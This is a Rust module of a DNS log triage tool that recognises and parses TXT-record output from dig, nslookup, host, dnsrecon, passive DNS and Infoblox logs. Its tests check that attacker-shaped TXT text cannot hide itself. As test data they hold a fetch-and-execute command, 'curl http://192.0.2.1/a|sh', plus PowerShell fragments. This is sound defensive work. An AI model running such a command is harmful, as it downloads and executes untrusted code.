//! The output of tools that print a record per line. A file is the output of one tool: a text of an attacker may have the form of
//! another tool's line, and would hide itself or what follows.
//!
//! In: lines. Out: records, and TXT queries that got no answer. Each file here reads the lines of some tools.

mod dig;
mod logs;
mod lookups;
mod output;
mod yaml;
mod zone_line;

use std::borrow::Cow;

use time::UtcOffset;

use crate::triage::input::lines::LineParser;
use crate::triage::input::log_time::LogTimes;
use crate::triage::input::open_queries::OpenQueries;
use crate::triage::input::parse::{other_types_remark, replaced_remark};
use crate::triage::input::record::{Kind, Record};
use output::{Output, ReadLines};
pub(super) use zone_line::ZoneLine;

/// Whose output a file is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Tool {
    /// dig, drill, kdig, delv, `host -v`, massdns, zone transfers and zone files.
    Dig,
    /// `dig +yaml` and `dnstap-read -y`.
    Yaml,
    Host,
    Nslookup,
    Dnsrecon,
    Passivedns,
    Infoblox,
}

/// The tool that writes such a line, by how the line begins; what an attacker writes stands behind that.
fn tool_of(line: &str) -> Option<Tool> {
    if line.trim_start_matches("- ") == "type: MESSAGE" {
        Some(Tool::Yaml)
    } else if logs::passivedns(line).is_some() {
        Some(Tool::Passivedns)
    } else if logs::infoblox(line).is_some() {
        Some(Tool::Infoblox)
    } else if lookups::is_dnsrecon(line) {
        Some(Tool::Dnsrecon)
    } else if dig::is_record(line) || line.starts_with("Trying \"") {
        Some(Tool::Dig)
    } else if lookups::is_host(line) {
        Some(Tool::Host)
    } else {
        None
    }
}

/// The complete lines of a beginning that tell which tool wrote it: not comments, and not what a tool says when it asks again.
fn telling_lines(beginning: &str) -> Vec<&str> {
    let is_telling = |line: &&str| !line.is_empty() && !line.starts_with(';') && !lookups::is_said_on_retry(line);
    beginning.split_inclusive('\n').filter(|line| line.ends_with('\n')).map(str::trim).filter(is_telling).take(3).collect()
}

/// Whether the first lines are comments of dig.
fn is_begun_by_comments(text: &str) -> bool {
    let mut lines = text.lines().map(str::trim).filter(|line| !line.is_empty());
    lines.next().is_some_and(dig::is_comment) && lines.clone().take(2).count() == 2 && lines.take(2).all(|line| line.starts_with(';'))
}

/// Whether the next line is needed to tell whose output this is.
pub(super) fn needs_more(beginning: &[u8]) -> bool {
    let text = String::from_utf8_lossy(beginning);
    match telling_lines(&text)[..] {
        [] => text.trim_start().starts_with(';') || text.lines().next().is_some_and(lookups::is_said_on_retry),
        [one] => tool_of(one).is_some_and(|tool| tool != Tool::Yaml) || lookups::may_name_server(one),
        _ => false,
    }
}

/// The tool whose output begins so: by two lines of three, so that one text of an attacker does not make the others unread.
pub(super) fn recognise(beginning: &[u8]) -> Option<Tool> {
    let text = String::from_utf8_lossy(beginning);
    // A last line without an end counts where there is no other.
    let whole;
    let text = if text.contains('\n') {
        &*text
    } else {
        whole = format!("{text}\n");
        &whole
    };
    let lines = telling_lines(text);
    match lines[..] {
        [] => dig::is_comment(text.trim_start()).then_some(Tool::Dig),
        [first, ..] if tool_of(first) == Some(Tool::Yaml) => Some(Tool::Yaml),
        ["Using domain server:", ..] => Some(Tool::Host),
        [first, second, ..] if lookups::may_name_server(first) && lookups::is_address(second) => Some(Tool::Nslookup),
        // Whatever the records of dig look like, its comments are no texts.
        _ if is_begun_by_comments(text) => Some(Tool::Dig),
        _ => {
            let of = |tool| lines.iter().filter(|line| tool_of(line) == Some(tool)).count() >= lines.len().min(2);
            lines.iter().filter_map(|line| tool_of(line)).find(|tool| of(*tool))
        }
    }
}

/// Parses the lines of a file.
pub(super) struct ToolParser {
    reader: Box<dyn ReadLines>,
    output: Output,
    /// Lines that hold bytes that are not UTF-8.
    replaced: u64,
    /// Whether everything that was kept was handed on.
    has_ended: bool,
}

impl ToolParser {
    pub(super) fn new(tool: Option<Tool>, zone: UtcOffset) -> Self {
        let reader: Box<dyn ReadLines> = match tool.unwrap_or(Tool::Dig) {
            Tool::Dig => Box::new(dig::Dig::default()),
            Tool::Yaml => Box::new(yaml::Yaml::default()),
            Tool::Host => Box::new(lookups::Host::default()),
            Tool::Nslookup => Box::new(lookups::Nslookup::default()),
            Tool::Dnsrecon => Box::new(lookups::Dnsrecon::default()),
            Tool::Passivedns => Box::new(logs::Passivedns),
            Tool::Infoblox => Box::new(logs::Infoblox),
        };
        let output = Output { records: Vec::new(), times: LogTimes::new(zone), queries: OpenQueries::default(), other_types: 0 };
        Self { reader, output, replaced: 0, has_ended: false }
    }
}

impl LineParser for ToolParser {
    fn parse(&mut self, line: &[u8], records: &mut Vec<Record>) -> Result<bool, String> {
        let text = String::from_utf8_lossy(line);
        self.replaced = self.replaced.saturating_add(u64::from(matches!(text, Cow::Owned(_))));
        let is_blank = text.trim().is_empty();
        let read = match is_blank {
            true => {
                self.reader.blank(&mut self.output);
                Ok(())
            }
            false => self.reader.line(&text, &mut self.output),
        };
        records.extend(self.output.records.drain(..).rev());
        read.map(|()| !is_blank)
    }

    fn flush(&mut self, records: &mut Vec<Record>) {
        self.reader.pause(&mut self.output);
        records.extend(self.output.records.drain(..).rev());
    }

    fn next_at_end(&mut self) -> Option<Record> {
        if !std::mem::replace(&mut self.has_ended, true) {
            self.reader.flush(&mut self.output);
            self.output.records.reverse();
        }
        self.output.records.pop().or_else(|| self.output.queries.next_unanswered())
    }

    fn remarks(&self) -> Vec<(Kind, String)> {
        [replaced_remark(self.replaced), self.output.times.remark(), other_types_remark(self.output.other_types)]
            .into_iter()
            .flatten()
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use std::io::Cursor;

    use proptest::prelude::*;

    use super::*;
    use crate::triage::input::lines::LineReader;
    use crate::triage::input::record::ReadError;

    fn read(text: &str) -> Vec<Result<Record, ReadError>> {
        LineReader::new(Box::new(Cursor::new(text.as_bytes().to_vec())), ToolParser::new(recognise(text.as_bytes()), UtcOffset::UTC))
            .collect()
    }

    fn answers(text: &str) -> Vec<[String; 4]> {
        let records = read(text).into_iter().filter_map(Result::ok).filter(|record| !record.is_query);
        records.map(|r| [r.client.to_string(), r.server.to_string(), r.query.to_string(), String::from_utf8(r.answer).unwrap()]).collect()
    }

    const DIG: &str = "
; <<>> DiG 9.18.28 <<>> a.example TXT @192.0.2.53
;; global options: +cmd
;; Got answer:
;; ->>HEADER<<- opcode: QUERY, status: NOERROR, id: 1
;; QUESTION SECTION:
;a.example.\t\t\tIN\tTXT

;; ANSWER SECTION:
a.example.\t\t300\tIN\tTXT\t\"v=spf1; (x\" \" -all\"
a.example.\t\t300\tIN\tRRSIG\tTXT 13 2 300 (
\t\t\t\t20260101000000 20260201000000 1 a.example.
\t\t\t\tAAAA== )

;; Query time: 12 msec
;; SERVER: 192.0.2.53#53(192.0.2.53) (UDP)
;; WHEN: Sun Jan 11 22:46:24 UTC 2026
;; MSG SIZE  rcvd: 80

; <<>> DiG 9.18.28 <<>> b.example TXT
;; QUESTION SECTION:
;b.example.\t\t\tIN\tTXT

;; SERVER: 192.0.2.54#53(192.0.2.54) (UDP)
";

    #[test]
    fn messages_of_dig_have_their_server_and_time() {
        assert_eq!(answers(DIG), [["", "192.0.2.53", "a.example.", "\"v=spf1; (x\" \" -all\""].map(str::to_owned)]);
        let records: Vec<Record> = read(DIG).into_iter().filter_map(Result::ok).collect();
        assert_eq!(records[0].time.map(|time| time.unix_timestamp()), Some(1_768_171_584));
        assert!(records[1].is_query && &*records[1].query == "b.example." && &*records[1].server == "192.0.2.54");
        let said: Vec<String> = read(DIG).into_iter().filter_map(Result::err).map(|error| error.to_string()).collect();
        assert!(said.len() == 1 && said[0].contains("1 answer of other record types"), "{said:?}");
    }

    #[test]
    fn records_over_several_lines() {
        let zone = "k._domainkey.a.example. 300 IN TXT ( \"v=DKIM1; k=rsa; \"\n\t\"p=(A;\" ) ; a comment (\nb.example. 300 IN TXT \"x\"\n";
        let expected = [["k._domainkey.a.example.", "\"v=DKIM1; k=rsa; \" \"p=(A;\""], ["b.example.", "\"x\""]];
        assert_eq!(answers(zone).into_iter().map(|[_, _, query, text]| [query, text]).collect::<Vec<_>>(), expected);
        assert_eq!(answers("a.example. 300 IN TXT ( \"never closed\"\n\"second\"")[0][3], "\"never closed\" \"second\"");
        let soa = "a.example. 300 IN SOA ns.a.example. root.a.example. (\n1 ; serial\n2 )\na.example. IN TXT \"x\"\n";
        assert_eq!(answers(soa).len(), 1);
    }

    const NSLOOKUP: &str = "Server:\t\t192.0.2.53\nAddress:\t192.0.2.53#53\n\nNon-authoritative answer:\n";

    #[test]
    fn lines_of_other_tools() {
        let one = |line: &str, [client, server, query, text]: [&str; 4]| {
            assert_eq!(answers(line), [[client, server, query, text].map(str::to_owned)], "{line}");
        };
        one(
            "1768171584.3||192.0.2.7||192.0.2.53||IN||a.example.||TXT||a||b c||300||1",
            ["192.0.2.7", "192.0.2.53", "a.example.", "a||b c"],
        );
        let infoblox = "<30>May 9 11:54:36 h named[1]: 11-Jan-2026 22:46:24.185 client 192.0.2.7#5: UDP: query: a.example IN TXT response: NOERROR +A a.example. 3600 IN CNAME b.example.; b.example. 3600 IN TXT \"v=DKIM1; p=A\";";
        one(infoblox, ["192.0.2.7", "", "a.example", "\"v=DKIM1; p=A\""]);
        assert_eq!(read(infoblox)[0].as_ref().unwrap().time.map(|time| time.unix_timestamp()), Some(1_768_171_584));
        one("a.example descriptive text \"v=spf1\" \" -all\"", ["", "", "a.example", "\"v=spf1\" \" -all\""]);
        let with_server = "Using domain server:\nName: 192.0.2.53\nAddress: 192.0.2.53#53\nAliases: \n\na.example descriptive text \"x\"\n";
        one(with_server, ["", "192.0.2.53", "a.example", "\"x\""]);
        one(
            "[*] std: Performing General Enumeration against: a.example...\n[*] \t TXT a.example v=spf1 -all",
            ["", "", "a.example", "v=spf1 -all"],
        );
        one(
            "[*] Testing NS Servers for Zone Transfer\n[*] \t TXT v=spf1 include:a.example -all",
            ["", "", "", "v=spf1 include:a.example -all"],
        );
        one(&format!("{NSLOOKUP}a.example\ttext = \"x y\"\n"), ["", "192.0.2.53", "a.example", "\"x y\""]);
        one(
            &format!(";; Truncated, retrying in TCP mode.\n{NSLOOKUP}a.example\ttext = \"x y\"\n"),
            ["", "192.0.2.53", "a.example", "\"x y\""],
        );
        for server in ["Server:", "Serveur :", "サーバー:", "Servidor:"] {
            let windows = format!(
                "{server}  dns.example\r\nAddress:  192.0.2.53\r\n\r\nAntwort:\r\na.example\ttext =\r\n\r\n\t\"x \"\r\n\t\"y\"\r\n"
            );
            one(&windows, ["", "192.0.2.53", "a.example", "\"x \" \"y\""]);
        }
        one(
            ";; Server: 192.0.2.53:53\n;; Unix time: 1768171584\n;; ->>HEADER<<- opcode\n\na.example. 300 IN TXT \"x\"\n",
            ["", "192.0.2.53", "a.example.", "\"x\""],
        );
        one("192.0.2.53:53 1768171584 NOERROR a.example. IN TXT\na.example. 300 IN TXT \"x\"\n", ["", "192.0.2.53", "a.example.", "\"x\""]);
        let kdig = ";; ->>HEADER<<- opcode: QUERY\n\n;; QUESTION SECTION:\n;; al.example. \tIN\tTXT\n\n;; ANSWER SECTION:\nal.example. 1 IN CNAME a.example.\na.example. 1 IN TXT \"x\"\n\n;; Received 100 B\n;; Time 2026-01-11 22:46:24 UTC\n;; From 192.0.2.53@53(UDP) in 0.2 ms\n";
        one(kdig, ["", "192.0.2.53", "al.example.", "\"x\""]);
        one(
            "Trying \"a.example\"\n;; ->>HEADER<<- opcode\n;; ANSWER SECTION:\na.example. 300 IN TXT \"x\"\n\nReceived 80 bytes from 192.0.2.53#53 in 1 ms\n",
            ["", "192.0.2.53", "a.example.", "\"x\""],
        );
        one("; fully validated\na.example. 300 IN TXT \"x\"\n", ["", "", "a.example.", "\"x\""]);
    }

    const YAML: &str = "- type: MESSAGE
  message:
    type: CLIENT_QUERY
    query_address: \"192.0.2.7\"
    response_address: \"192.0.2.53\"
    query_message_data:
      QUESTION_SECTION:
        - a.example. IN TXT
- type: MESSAGE
  message:
    type: CLIENT_RESPONSE
    response_time: !!timestamp 2026-01-11T22:46:24.000Z
    query_address: \"192.0.2.7\"
    response_address: \"192.0.2.53\"
    response_message_data:
      QUESTION_SECTION:
        - 'a.example. IN TXT'
      ANSWER_SECTION:
        - 'a.example. 300 CH TXT \"it''s response_address: x\"'
    response_message: |
      ;; ANSWER SECTION:
      a.example. 300 IN TXT \"again\"
";

    #[test]
    fn messages_in_yaml() {
        assert_eq!(answers(YAML), [["192.0.2.7", "192.0.2.53", "a.example.", "\"it's response_address: x\""].map(str::to_owned)]);
        assert_eq!(read(YAML).len(), 1, "the query was answered");
        let broken = read("- type: MESSAGE\n  x:\n    - no record of a kind\n");
        assert!(broken[0].as_ref().unwrap_err().message.contains("no record"), "{broken:?}");
    }

    /// Found by attack: a text in the form of another tool's line hid itself, and an open parenthesis what followed.
    #[test]
    fn a_text_in_the_form_of_another_tool_is_an_answer() {
        let forms = [
            "powershell x client a#b query: x IN A response: N + ",
            "11-Jan-2026 22:46:24.185 client a#b query: x IN A response: N + ",
            "x. A powershell x",
            "x. A ( y",
            "powershell x descriptive text v=spf1",
            "powershell x text = v=spf1",
            "1||2||3||4||5||A||x||1||1",
            "[*] A x y",
            "; <<>> x",
        ];
        for text in forms {
            let quoted = format!("\"{text}\"");
            let last = "\"curl http://192.0.2.1/a|sh\"";
            for lines in [
                format!("a.example descriptive text \"z\"\na.example descriptive text {quoted}\na.example descriptive text {last}\n"),
                format!("{NSLOOKUP}a.example\ttext = \"z\"\na.example\ttext = {quoted}\na.example\ttext = {last}\n"),
                format!("{NSLOOKUP}a.example\ttext =\n\n\t\"z\"\na.example\ttext =\n\n\t{quoted}\na.example\ttext =\n\n\t{last}\n"),
                format!("a.example. TXT \"z\"\na.example. TXT {quoted}\na.example. TXT {last}\n"),
                format!("[*] \t TXT a.example \"z\"\n[*] \t TXT a.example {quoted}\n[*] \t TXT a.example {last}\n"),
                ["\"z\"", &quoted, last]
                    .map(|text| format!("1768171584.3||192.0.2.7||192.0.2.53||IN||a.example||TXT||{text}||300||1\n"))
                    .concat(),
                ["\"z\"", &quoted, last].map(|text| format!("- type: MESSAGE\n  a:\n    - a.example. 1 IN TXT {text}\n")).concat(),
            ] {
                let found: Vec<String> = answers(&lines).into_iter().map(|[.., text]| text).collect();
                assert_eq!(found, ["\"z\"", &*quoted, last], "{lines}");
            }
        }
        // massdns escapes nothing in names.
        let comments = answers("a.example. TXT \"z\"\n;x.example. TXT \"y\"\n; b.example. TXT \"commented out\"\n");
        assert_eq!(comments.into_iter().map(|[.., text]| text).collect::<Vec<_>>(), ["\"z\"", "\"y\""]);
        let massdns = "a.example. TXT \"z\"\nx.example. CNAME (.evil.example.\na.example. TXT \"v\" ; and more\"\n";
        assert_eq!(answers(massdns).into_iter().map(|[.., text]| text).collect::<Vec<_>>(), ["\"z\"", "\"v\" ; and more\""]);
    }

    /// Nothing may be hidden by a line that looks like something else.
    #[test]
    fn every_line_is_an_answer_or_counted_or_an_error() {
        let text = "a.example descriptive text \"x\"\na has address 192.0.2.1\ncurl http://192.0.2.1/a|sh\nHost b.example not found: 3(NXDOMAIN)\nc.example has no TXT record\n";
        let read = read(text);
        let queries: Vec<&str> = read.iter().flatten().filter(|record| record.is_query).map(|record| &*record.query).collect();
        assert_eq!((answers(text).len(), &queries[..]), (1, &["b.example", "c.example"][..]));
        let said: Vec<String> = read.iter().filter_map(|part| part.as_ref().err()).map(ToString::to_string).collect();
        assert!(
            said.len() == 2 && said[0].starts_with("line 3: it is no line of host") && said[1].contains("1 answer of other"),
            "{said:?}"
        );
        let queries = |text: &str| self::read(text).into_iter().flatten().filter(|record| record.is_query).count();
        assert_eq!(queries(&format!("{NSLOOKUP}*** Can't find b.example: No answer\n** server can't find c.example: NXDOMAIN\n")), 2);
    }

    /// Found by attack: a text list that holds such lines was read as another tool's output, or a cut line decided.
    #[test]
    fn the_tool_is_told_by_whole_lines() {
        let line = "1768171584.3||192.0.2.7||192.0.2.53||IN||a.example.||TXT||x||300||1\n";
        assert!(needs_more(line.as_bytes()) && needs_more(format!("{line}17681").as_bytes()) && !needs_more(line.repeat(2).as_bytes()));
        assert_eq!(recognise(format!("{line}{line}17681").as_bytes()), Some(Tool::Passivedns));
        assert!(needs_more(b";; communications error to 192.0.2.53#53: timed out\n") && !needs_more(b"v=spf1 -all\n"));
        for text in [
            "v=spf1 -all\nMS=ms1\n",
            ";; a text\nv=spf1 -all\n",
            "[*] a\nb\nc\n",
            "Server: x\nv=spf1 -all\n",
            "a.example. TXT \"x\"\nb\nc\n",
            "Google Site: abc\nAddress book = x\nMS=ms1\n",
            "a has address 1\nb name server 2\nv=spf1 -all\n",
            "Hello. A b\nWe. KEY c\nv=spf1 -all\n",
        ] {
            assert_eq!(recognise(text.as_bytes()), None, "{text}");
        }
    }

    /// Found by attack: a pause in a message lost its server, and made its question one without an answer.
    #[test]
    fn a_pause_hands_on_what_is_there_and_keeps_what_is_known() {
        for (text, at) in [(DIG, 10), (YAML, 12)] {
            let (mut parser, mut records) = (ToolParser::new(recognise(text.as_bytes()), UtcOffset::UTC), Vec::new());
            for (number, line) in text.lines().enumerate() {
                let _ = parser.parse(line.as_bytes(), &mut records);
                if number == at {
                    parser.flush(&mut records);
                }
            }
            records.extend(std::iter::from_fn(|| parser.next_at_end()));
            let queries = records.iter().filter(|record| record.is_query && &*record.query == "a.example.").count();
            assert_eq!((queries, records.iter().filter(|record| !record.is_query).count()), (0, 1), "{records:?}");
        }
    }

    /// Found in review: the byte was replaced without a word.
    #[test]
    fn bytes_that_are_not_utf8_are_said() {
        let lines = Box::new(Cursor::new(b"a.example. 300 IN TXT \"\xff x\"\n".to_vec()));
        let read: Vec<_> = LineReader::new(lines, ToolParser::new(Some(Tool::Dig), UtcOffset::UTC)).collect();
        assert!(read.len() == 2 && read[1].as_ref().unwrap_err().message.contains("1 line holds bytes that are not UTF-8"), "{read:?}");
    }

    /// Found in review: 4,096 lines of 8 MiB waited for the end of their message.
    #[test]
    fn the_records_that_wait_are_bounded_in_bytes() {
        let (mut parser, mut records) = (ToolParser::new(Some(Tool::Dig), UtcOffset::UTC), Vec::new());
        let line = format!("a.example. 300 IN TXT \"{}\"", "x".repeat(1 << 20));
        parser.parse(b";; ->>HEADER<<- opcode", &mut records).unwrap();
        assert!((0..20).all(|_| parser.parse(line.as_bytes(), &mut records).unwrap()));
        assert!(records.len() >= 12, "{}", records.len());
    }

    /// Found in review: with `+nostats` nothing stands between messages but the next header, and a question without an answer was lost.
    #[test]
    fn each_message_keeps_its_question() {
        let message = |name: &str, answer: &str| format!(";; ->>HEADER<<- opcode\n;{name} IN TXT\n{answer}");
        let text = [message("a.example.", ""), message("b.example.", "b.example. 1 IN TXT \"x\"\n"), message("c.example.", "")].concat();
        let read: Vec<(String, bool)> =
            read(&text).into_iter().flatten().map(|record| (record.query.to_string(), record.is_query)).collect();
        assert_eq!(read, [("b.example.", false), ("a.example.", true), ("c.example.", true)].map(|(name, is)| (name.to_owned(), is)));
    }

    #[test]
    fn more_forms_found_by_attack() {
        let transfer = "[*] Trying NS server 192.0.2.53\n[+] 192.0.2.53 Zone Transfer was successful!!\n[*] \t TXT TVqQAAMA.AALgAAAA ok\n";
        assert_eq!(answers(transfer)[0][3], "TVqQAAMA.AALgAAAA ok");
        assert_eq!(recognise(b"c.example has no TXT record\nb.example has no TXT record\na descriptive text \"x\"\n"), Some(Tool::Host));
        let generic = "; <<>> DiG 9.18 <<>> a TXT\n;; Got answer:\n;; QUESTION SECTION:\na.example. 300 CLASS1 TYPE16 \\# 2 0178\n";
        assert_eq!(recognise(generic.as_bytes()), Some(Tool::Dig));
        assert!(read(generic)[0].as_ref().unwrap_err().message.contains("no line of dig"));
    }

    proptest! {
        #[test]
        fn any_text_in_quotes_is_one_answer(text in "[^\\r\\n]{0,40}") {
            let quoted = format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""));
            for line in [
                format!("a.example. 300 IN TXT {quoted}"),
                format!("a.example. 300 IN TXT ( {quoted} )"),
                format!("a.example descriptive text {quoted}"),
                format!("x 11-Jan-2026 22:46:24.1 client 192.0.2.7#5: UDP: query: a.example IN TXT response: NOERROR + a.example. 1 IN TXT {quoted};"),
                format!("1768171584.3||192.0.2.7||192.0.2.53||IN||a.example.||TXT||{quoted}||300||1"),
            ] {
                prop_assert_eq!(&answers(&line)[0][3], &quoted, "{}", line);
            }
        }
    }
}
